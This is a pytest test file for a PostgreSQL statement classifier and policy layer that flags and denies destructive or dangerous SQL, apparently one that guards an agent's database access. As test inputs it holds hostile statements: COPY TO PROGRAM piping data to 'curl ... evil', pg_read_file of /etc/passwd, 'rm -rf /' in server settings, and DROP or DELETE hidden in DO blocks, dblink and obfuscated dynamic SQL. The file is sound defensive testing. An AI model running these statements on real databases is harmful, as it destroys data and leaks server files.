"""Statements are judged by what they do, whatever they look like."""
import pytest

from hostagent.protocols.postgres.classify import Unparseable, classify


def one(sql):
    (s,) = classify(sql)
    return s


def test_case_and_comments_do_not_hide_a_drop():
    s = one("/* c */ DrOp TABLE orders")
    assert s.kind == "DROP" and s.tables == ("orders",)


def test_every_statement_of_a_multi_statement_query():
    a, b = classify("SELECT 1; DROP TABLE t")
    assert (a.kind, b.kind) == ("SELECT", "DROP") and b.text == "DROP TABLE t"


def test_nested_statements_count():
    s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone")
    assert s.kind == "SELECT" and "DELETE" in s.kinds and "users" in s.tables
    assert "no_where" in s.flags


def test_a_drop_inside_a_do_block():
    s = one("DO $$ BEGIN DROP TABLE orders; END $$")
    assert s.kind == "DO" and "DROP" in s.kinds and "orders" in s.tables
    dyn = one("DO $$ BEGIN EXECUTE 'drop ' || 'table orders'; END $$")
    assert "dynamic_sql" in dyn.flags


def test_copy_program_and_server_files():
    assert "copy_program" in one("COPY orders TO PROGRAM 'curl -d @- evil'").flags
    s = one("SELECT pg_read_file('/etc/passwd')")
    assert "server_files" in s.flags and "pg_read_file" in s.functions


def test_where_clauses_and_schemas():
    assert "no_where" not in one("UPDATE shop.orders SET paid = true WHERE id = 1").flags
    s = one("UPDATE shop.orders SET paid = true")
    assert "no_where" in s.flags and s.tables == ("shop.orders", "orders")


@pytest.mark.parametrize("sql,kind", [("INSERT INTO t VALUES (1)", "INSERT"),
                                      ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
                                      ("TRUNCATE t", "TRUNCATE"), ("ALTER TABLE t ADD c int", "ALTER"),
                                      ("GRANT SELECT ON t TO bob", "GRANT"), ("CALL p()", "CALL"),
                                      ("SET search_path = x", "SET"), ("BEGIN", "TRANSACTION")])
def test_kinds(sql, kind):
    assert one(sql).kind == kind


def test_unparseable_text_is_reported_not_guessed():
    with pytest.raises(Unparseable):
        classify("DROP TABEL t")


def test_every_plpgsql_expression_counts():
    s = one("DO $$DECLARE r record; BEGIN FOR r IN DELETE FROM secret RETURNING * LOOP "
            "END LOOP; END$$")
    assert "DELETE" in s.kinds and "secret" in s.tables
    s = one("DO $$DECLARE n int; BEGIN n := (SELECT count(*) FROM secret); END$$")
    assert "secret" in s.tables


def test_names_kinds_and_sql_running_functions():
    assert set(one("SELECT * FROM public.secret").tables) == {"public.secret", "secret"}
    assert one("CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()").kind == "CREATE"
    assert one("CREATE SEQUENCE s").kind == "CREATE"
    assert "dynamic_sql" in one("SELECT query_to_xml('select * from secret', true, true, '')").flags


def test_statements_differing_only_in_numbers_share_a_judgement_but_not_their_text():
    a = classify("SELECT abalance FROM pgbench_accounts WHERE aid = 12;")
    b = classify("SELECT abalance FROM pgbench_accounts WHERE aid = 987654;")
    assert b[0].text == "SELECT abalance FROM pgbench_accounts WHERE aid = 987654"
    assert (a[0].kinds, a[0].tables, a[0].flags) == (b[0].kinds, b[0].tables, b[0].flags)


def test_string_literals_are_never_blanked_out():
    # same shape but for the DO body / the program: each judged on its own
    safe = classify("DO $$ BEGIN PERFORM 1; END $$")
    bad = classify("DO $$ BEGIN DROP TABLE orders; END $$")
    assert "DROP" not in safe[0].kinds and "DROP" in bad[0].kinds
    one = classify("SELECT pg_sleep(1) FROM t WHERE x = 'a'")
    two = classify("SELECT pg_sleep(2) FROM t WHERE x = 'b'; DROP TABLE t")
    assert len(one) == 1 and len(two) == 2 and "DROP" in two[1].kinds


def test_the_statement_cache_is_bounded_by_bytes():
    from hostagent.protocols.cache import TextCache
    cache = TextCache(max_entries=1000, max_bytes=1000, max_item=400)
    for i in range(50):
        cache.put(f"SELECT {i} -- " + "x" * 90, i, 100)
    assert cache.bytes <= 1000 and len(cache) == 10
    cache.put("y" * 500, "too big", 500)            # never kept
    assert cache.get("y" * 500) is None and cache.get(f"SELECT 49 -- {'x' * 90}") == 49
    # the classifier's own cache: a flood of distinct long statements stays bounded
    from hostagent.protocols.postgres import classify as c
    for i in range(500):   # 500 x 40 KB kept would be 20 MB
        classify(f"SELECT {i} AS n, '{'z' * 20_000}' AS pad")
    assert len(c._cache) > 100 and c._cache.bytes <= c._cache.max_bytes


# ---------------------------------------------------------------- judged by all they can do

def test_merge_is_judged_by_each_action_it_can_take():
    s = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE "
            "WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)")
    assert s.kind == "MERGE" and s.kinds == {"MERGE", "DELETE", "UPDATE", "INSERT"}
    assert s.tables[0] == "t" and "no_where" not in s.flags
    nothing = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING")
    assert nothing.kinds == {"MERGE"}            # DO NOTHING adds nothing
    # a join that doesn't look at the rows touches every row of the target
    assert "no_where" in one("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE").flags
    assert "no_where" not in one("MERGE INTO t USING s ON true WHEN NOT MATCHED "
                                 "THEN INSERT VALUES (1)").flags


@pytest.mark.parametrize("body,kind,table", [
    ("EXECUTE 'DROP TABLE t'", "DROP", "t"),
    ("EXECUTE 'DROP ' || 'TABLE ' || 't'", "DROP", "t"),
    ("EXECUTE $q$TRUNCATE t$q$", "TRUNCATE", "t"),
    ("EXECUTE U&'\\0044ELETE FROM t'", "DELETE", "t"),
    ("EXECUTE 'DROP TABLE t'::text", "DROP", "t"),
    ("PERFORM 1; EXECUTE 'SELECT 1; DELETE FROM t WHERE id = 1'", "DELETE", "t"),
])
def test_execute_of_literals_is_judged_as_what_it_runs(body, kind, table):
    s = one(f"DO $$ BEGIN {body}; END $$")
    assert kind in s.kinds and table in s.tables
    assert "dynamic_sql" in s.flags and not s.unknown


def test_execute_of_variables_assigned_only_literals():
    s = one("DO $$ DECLARE v text := 'DROP TABLE a'; BEGIN EXECUTE v; END $$")
    assert "DROP" in s.kinds and "a" in s.tables and not s.unknown
    # each assignment is one more text it may run
    s = one("DO $$ DECLARE v text; w text := 'TRUNCATE '; BEGIN v := 'SELECT 1'; "
            "IF random() > 0.5 THEN v := w || 'b'; END IF; EXECUTE v; END $$")
    assert {"TRUNCATE", "SELECT"} <= s.kinds and "b" in s.tables and not s.unknown
    s = one('DO $$ DECLARE "Q" text = \'DELETE FROM c\'; BEGIN EXECUTE "Q"; END $$')
    assert "DELETE" in s.kinds and "c" in s.tables and not s.unknown
    # an inner block's variable of the same name: either may be meant, both count
    s = one("DO $$ DECLARE v text := 'SELECT 1'; BEGIN DECLARE v text := 'DROP TABLE d'; "
            "BEGIN NULL; END; EXECUTE v; END $$")
    assert "DROP" in s.kinds and not s.unknown


@pytest.mark.parametrize("block", [
    "BEGIN EXECUTE format('DROP TABLE %I', 't'); END",
    "BEGIN EXECUTE 'DROP TABLE ' || (SELECT name FROM victims LIMIT 1); END",
    "BEGIN EXECUTE 'SELECT ' || 1; END",                     # numbers are not literals here
    "BEGIN EXECUTE 'DROP TABLE t'::varchar(4); END",         # a cast that cuts the text
    "BEGIN EXECUTE 'SELECT 1' || current_setting('my.sql'); END",
    "DECLARE v text := 'SELECT 1'; BEGIN SELECT q INTO v FROM jobs; EXECUTE v; END",
    "DECLARE v text := 'SELECT 1'; BEGIN FOR v IN SELECT q FROM jobs LOOP EXECUTE v; END LOOP; END",
    "DECLARE v text := 'SELECT 1'; BEGIN EXECUTE 'SELECT q FROM jobs' INTO v; EXECUTE v; END",
    "DECLARE v text := 'SELECT 1'; BEGIN GET DIAGNOSTICS v = PG_CONTEXT; EXECUTE v; END",
    "DECLARE v text := 'SELECT 1'; BEGIN CALL setter(v); EXECUTE v; END",
    "DECLARE v text := 'SELECT 1'; BEGIN v := v || '; DROP TABLE t'; EXECUTE v; END",
    "DECLARE v text := 'SELECT 1'; a text[] := ARRAY['x']; BEGIN FOREACH v IN ARRAY a LOOP "
    "EXECUTE v; END LOOP; END",
    "DECLARE v text; BEGIN v := 'SELECT 1'; <<b>> DECLARE v text; BEGIN b.v := 'x'; END; "
    "EXECUTE v; END",
    "DECLARE v name := 'DROP TABLE t'; BEGIN EXECUTE v; END",   # a name is cut at 63 bytes
    "DECLARE v text; BEGIN EXECUTE v; END",                     # never assigned here
    "DECLARE c CURSOR FOR SELECT q FROM jobs; v text := 'SELECT 1'; BEGIN OPEN c; "
    "FETCH c INTO v; EXECUTE v; END",
    "BEGIN EXECUTE 'SELECT 1'; EXCEPTION WHEN others THEN EXECUTE sqlerrm; END",
])
def test_computed_dynamic_sql_is_unknown(block):
    s = one(f"DO $$ {block} $$")
    assert "dynamic_sql" in s.flags and s.unknown == {"dynamic_sql"}


def test_parameters_are_computed():
    s = one("CREATE FUNCTION run(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; "
            "END $$")
    assert s.unknown == {"dynamic_sql"}
    assert one("PREPARE p(text) AS SELECT dblink_exec('dbname=x', $1)").unknown == {"dynamic_sql"}


def test_every_dynamic_form_and_the_code_around_it_counts():
    # the loop body of FOR ... IN EXECUTE runs too
    s = one("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP DROP TABLE t; "
            "END LOOP; END $$")
    assert "DROP" in s.kinds and not s.unknown
    s = one("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM t RETURNING *'; "
            "END $$")
    assert "DELETE" in s.kinds
    s = one("CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN "
            "RETURN QUERY EXECUTE 'WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d'; "
            "END $$")
    assert "DELETE" in s.kinds and "t" in s.tables
    # the expression giving the text is itself judged (what it reads)
    s = one("DO $$ BEGIN EXECUTE (SELECT cmd FROM queue LIMIT 1); END $$")
    assert "queue" in s.tables and s.unknown == {"dynamic_sql"}
    # nested: a DO that EXECUTEs a DO that EXECUTEs a DELETE
    s = one("DO $$ BEGIN EXECUTE $q$DO $i$ BEGIN EXECUTE 'DELETE FROM deep'; END $i$ $q$; END $$")
    assert "DELETE" in s.kinds and "deep" in s.tables and not s.unknown


@pytest.mark.parametrize("sql,kind,table", [
    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "DROP", "t"),
    ("SELECT dblink_exec('TRUNCATE t')", "TRUNCATE", "t"),
    ("SELECT dblink_exec('TRUNCATE t', false)", "TRUNCATE", "t"),
    ("SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(x int)", "DELETE", "t"),
    ("SELECT dblink_send_query('c', 'DROP TABLE t')", "DROP", "t"),
    ("SELECT dblink_open('c', 'cur', 'WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d')",
     "DELETE", "t"),
    ("SELECT dblink_open('cur', 'WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d', true)",
     "DELETE", "t"),
    ("SELECT query_to_xml('WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d', true, true, '')",
     "DELETE", "t"),
    ("SELECT * FROM crosstab('SELECT a, b, c FROM t', 'SELECT DISTINCT b FROM t') AS x(a int)",
     "SELECT", "t"),
    ("SELECT cron.schedule('0 0 * * *', 'DROP TABLE t')", "DROP", "t"),
    ("DO $$ DECLARE v text := 'DROP TABLE t'; BEGIN PERFORM dblink_exec('c', v); END $$", "DROP", "t"),
])
def test_functions_that_run_sql_text_are_judged_by_it(sql, kind, table):
    s = one(sql)
    assert kind in s.kinds and table in s.tables and not s.unknown and "dynamic_sql" in s.flags


def test_functions_that_run_sql_computed_or_chosen_at_run_time_are_unknown():
    for sql in ("SELECT dblink_exec('dbname=x', 'DROP TABLE ' || name) FROM victims",
                "SELECT dblink_exec('dbname=x', format('DROP TABLE %s', 't'))",
                "SELECT dblink_exec(sql => 'DROP TABLE t')",
                "SELECT database_to_xml(true, true, '')",
                "SELECT schema_to_xml('public', true, true, '')",
                "SELECT * FROM xpath_table('id', 'x', 'docs', '/a', 'true') AS t(id int, a text)",
                # a column wins over a variable of the same name (#variable_conflict use_column)
                "DO $$ DECLARE q text := 'SELECT 1'; BEGIN PERFORM dblink_exec('c', q) FROM jobs; "
                "END $$"):
        assert one(sql).unknown == {"dynamic_sql"}, sql
    # an operator || of one's own would change what literals joined with || run
    assert one("CREATE OPERATOR public.|| (leftarg = text, rightarg = text, "
               "function = mine)").unknown == {"dynamic_sql"}
    # odd arities don't trip the argument finder
    for sql in ("SELECT cron.schedule()", "SELECT dblink()", "SELECT dblink_open('x')",
                "SELECT set_config()", "SELECT set_config('a' || v, 'b', true) FROM t"):
        classify(sql)
    s = one("SELECT table_to_xml('public.secret'::regclass, true, true, '')")
    assert "secret" in s.tables and not s.unknown


@pytest.mark.parametrize("sql,kind,table", [
    ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$", "DELETE", "t"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE t'", "DROP", "t"),
    ("CREATE FUNCTION f() RETURNS void AS $$ TRUNCATE t $$ LANGUAGE sql", "TRUNCATE", "t"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE id = 1; "
     "SELECT 1; END", "DELETE", "t"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN (SELECT count(*) FROM t)", "SELECT", "t"),
    ("CREATE OR REPLACE PROCEDURE p(a int) LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE id = a; END",
     "DELETE", "t"),
    ("CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t "
     "WHERE id = OLD.id; RETURN OLD; END $$", "DELETE", "t"),
    ("CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY "
     "SELECT 1; EXECUTE 'DROP TABLE t'; END $$", "DROP", "t"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1; "
     "SELECT dblink_exec('c', 'DROP TABLE t') $$", "DROP", "t"),
])
def test_function_bodies_count(sql, kind, table):
    s = one(sql)
    assert s.kind == "CREATE" and kind in s.kinds and table in s.tables and not s.unknown


def test_other_languages_are_unknown_and_bodies_that_do_not_parse_unparseable():
    for sql in ("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ plpy.execute('x') $$",
                "CREATE FUNCTION f(int) RETURNS int AS 'mylib', 'f' LANGUAGE c",
                "DO LANGUAGE plperl $$ 1; $$",
                # the server's language names are case-sensitive: this is not PL/pgSQL
                "CREATE FUNCTION f() RETURNS int LANGUAGE 'PLpgSQL' AS 'BEGIN DELETE FROM t; END'"):
        s = one(sql)
        assert "untrusted_language" in s.flags and s.unknown == {"untrusted_language"}, sql
    for sql in ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABEL t'",
                "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROPP; END $$",
                "DO $$ BEGIN EXECUTE 'DROP TABEL t'; END $$"):
        with pytest.raises(Unparseable):
            classify(sql)


def test_rules_triggers_and_other_deferred_code():
    s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit")
    assert s.kind == "CREATE" and {"RULE", "DELETE"} <= s.kinds and "audit" in s.tables
    s = one("CREATE TRIGGER tr AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION s.f('a')")
    assert {"CREATE", "TRIGGER"} <= s.kinds and "s.f" in s.functions and "trigger" in s.flags
    s = one("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION g()")
    assert "TRIGGER" in s.kinds and "g" in s.functions and "trigger" in s.flags
    assert "DROP" in one("CREATE VIEW v AS SELECT dblink_exec('c', 'DROP TABLE t')").kinds
    assert "DELETE" in one("CREATE TABLE n (a text DEFAULT dblink_exec('c', 'DELETE FROM t'))").kinds
    assert "evil" in one("CREATE AGGREGATE a(int) (sfunc = evil, stype = int)").functions
    assert "copy_program" in one("CREATE FOREIGN TABLE x (a text) SERVER f "
                                 "OPTIONS (program 'rm -rf /')").flags
    assert "copy_program" in one("ALTER SYSTEM SET archive_command = 'rm -rf /'").flags
    assert "server_files" in one("LOAD 'evil'").flags
    s = one("SELECT * INTO copy_of_t FROM t")
    assert "CREATE" in s.kinds and "select_into" in s.flags


def test_nesting_and_size_are_bounded():
    from hostagent.protocols.postgres.effects import MAX_DEPTH
    sql = "SELECT 1"
    for _ in range(MAX_DEPTH + 1):
        sql = "SELECT dblink_exec('c', '" + sql.replace("'", "''") + "')"
    with pytest.raises(Unparseable):
        classify(sql)
    # literals doubled by || grow past what is judged: computed, not a stall
    decls = "a0 text := 'SELECT 1 /*" + "x" * 1000 + "*/';" + "".join(
        f"a{i} text := a{i - 1} || a{i - 1};" for i in range(1, 20))
    s = one(f"DO $$ DECLARE {decls} BEGIN EXECUTE a19; END $$")
    assert s.unknown == {"dynamic_sql"}


def test_numbers_inside_dynamic_text_are_never_blanked_by_the_shape_cache():
    a = one("DO $$ BEGIN EXECUTE 'DROP TABLE t1'; END $$")
    b = one("DO $$ BEGIN EXECUTE 'DROP TABLE t2'; END $$")
    assert "t1" in a.tables and "t2" in b.tables and "t1" not in b.tables
    a = one("SELECT dblink_exec('c', 'DELETE FROM t WHERE id = 1') FROM x WHERE n = 5")
    b = one("SELECT dblink_exec('c', 'DELETE FROM t') FROM x WHERE n = 6")
    assert "no_where" not in a.flags and "no_where" in b.flags


# ---------------------------------------------------------------- decided by policy

POLICY = """
default = "allow"
unparseable = "deny"
[[rules]]
name = "no-destruction"
action = "deny"
statements = ["DROP", "TRUNCATE", "DELETE"]
[[rules]]
name = "migrator-dynamic-sql"
action = "allow"
users = ["migrator"]
flags = ["dynamic_sql"]
[[rules]]
name = "globs-name-nothing"
action = "allow"
users = ["globber"]
flags = ["dynamic*", "*"]
"""


def _decide(tmp_path, sql, user="agent", policy=POLICY):
    from hostagent.policy import decide, load_policy
    from hostagent.protocols.enforce import strictest
    from hostagent.protocols.statements import requests_for
    path = tmp_path / "policy.toml"
    path.write_text(policy)
    p = load_policy(str(path))
    try:
        statements = classify(sql)
    except Unparseable:
        statements = [None]
    return strictest(decide(p, req) for req, _ in requests_for(
        statements, sql, target="db", identity={"user": user}, database="shop"))


def test_policy_denies_what_a_statement_can_do(tmp_path):
    for sql in ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$",
                "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE t'"):
        d = _decide(tmp_path, sql)
        assert (d.action, d.rule) == ("deny", "no-destruction"), sql
        # a rule allowing dynamic SQL doesn't make known destruction pass
        assert _decide(tmp_path, sql, user="migrator").action == "deny"
    assert _decide(tmp_path, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN "
                   "UPDATE SET a = 1").action == "allow"


def test_computed_dynamic_sql_takes_the_unparseable_decision_unless_explicitly_allowed(tmp_path):
    sql = "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$"
    d = _decide(tmp_path, sql)
    assert (d.action, d.rule) == ("deny", "(unparseable)") and "dynamic_sql" in d.reason
    d = _decide(tmp_path, sql, user="migrator")
    assert (d.action, d.rule) == ("allow", "migrator-dynamic-sql")
    # a glob is not naming it
    assert _decide(tmp_path, sql, user="globber").action == "deny"
    # an allow rule for dynamic SQL doesn't cover code in another language
    py = "DO LANGUAGE plpython3u $$ plpy.execute('drop table t') $$"
    assert _decide(tmp_path, py, user="migrator").rule == "(unparseable)"
    allow_py = POLICY + '[[rules]]\nname = "py"\naction = "allow"\nflags = ["untrusted_language"]\n'
    assert _decide(tmp_path, py, policy=allow_py).rule == "py"
    # the unparseable decision is only ever stricter: review stays review, and a rule
    # that denies still denies
    review = POLICY.replace('unparseable = "deny"', 'unparseable = "review"')
    assert _decide(tmp_path, sql, policy=review).action == "review"
    lax = POLICY.replace('unparseable = "deny"', 'unparseable = "allow"')
    assert _decide(tmp_path, sql, policy=lax).action == "allow"
    assert _decide(tmp_path, "DO $$ BEGIN EXECUTE 'TRUNCATE a'; EXECUTE format('x'); END $$",
                   policy=lax).rule == "no-destruction"
    audit = "audit = true\n" + POLICY
    d = _decide(tmp_path, sql, policy=audit)
    assert (d.action, d.would) == ("allow", "deny")


def test_the_record_names_what_is_unknown():
    from hostagent.protocols.statements import requests_for
    sql = "SELECT dblink_exec('c', q) FROM jobs"
    ((req, rec),) = requests_for(classify(sql), sql, target="db", identity={}, database="d")
    assert req.unknown == ("dynamic_sql",) and rec["unknown"] == ["dynamic_sql"]


def test_settings_that_change_how_later_text_is_read_are_unknown():
    # under standard_conforming_strings = off, `SELECT '\' , ' ; DROP TABLE t; -- '` is a
    # DROP to the server and two strings to us; a client encoding like SJIS hides a
    # backslash in a character (E'...\' strings end elsewhere)
    for sql in ("SET standard_conforming_strings = off", "SET NAMES 'SJIS'",
                "SET SESSION client_encoding TO 'big5'",
                "SELECT set_config('standard_conforming_strings', 'off', false)",
                "SELECT set_config(name, 'x', false) FROM settings",
                "ALTER ROLE app SET client_encoding = 'GBK'",
                "ALTER DATABASE shop SET standard_conforming_strings = false",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql "
                "SET standard_conforming_strings = off AS 'SELECT 1'",
                "DO $$ BEGIN SET client_encoding = 'SJIS'; END $$",
                # numbers never decide (the shape cache shares judgements across them)
                "SET standard_conforming_strings = 1", "SET standard_conforming_strings = 0"):
        s = one(sql)
        assert s.unknown == {"changes_parsing"} and "changes_parsing" in s.flags, sql
    for sql in ("SET client_encoding = 'UTF-8'", "SET NAMES 'utf8'", "RESET client_encoding",
                "SET standard_conforming_strings = on", "SET client_encoding TO DEFAULT",
                "SELECT set_config('application_name', 'x', false)"):
        assert not one(sql).unknown, sql
